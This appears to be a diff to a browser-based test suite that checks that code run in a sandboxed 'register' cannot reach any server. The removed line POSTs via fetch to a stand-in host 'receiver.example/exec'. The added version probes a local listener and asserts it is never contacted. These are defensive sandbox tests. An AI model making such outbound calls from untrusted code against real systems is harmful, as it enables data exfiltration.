@@ -3,6 +3,7 @@ import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { chromium } from 'playwright-core';
+import { listen } from '../../serve';
 import type { Release } from '../history';
 import { integrityOf } from '../integrity';
 import { readSite } from '../site';
@@ -117,8 +118,15 @@ needsBrowser('a register on trial', () => {
   });
 
   test('reaches no server', async () => {
-    const code = `fetch('https://receiver.example/exec', { method: 'POST' }).catch(() => { ${shows(1)} });`;
-    expect(await tryRegister(code)).toMatchObject({ result: 'worked' });
+    const reached = jest.fn();
+    const server = await listen(0, (_path, request, response) => {
+      reached(request.url);
+      response.end();
+    });
+    const send = `fetch('http://127.0.0.1:${server.port}/exec', { method: 'POST', mode: 'no-cors' })`;
+    expect(await tryRegister(`${send}.catch(() => { ${shows(1)} });`)).toMatchObject({ result: 'worked' });
+    expect(reached).not.toHaveBeenCalled();
+    server.close();
   });
 
   test('cannot be tried without a shell', async () => {
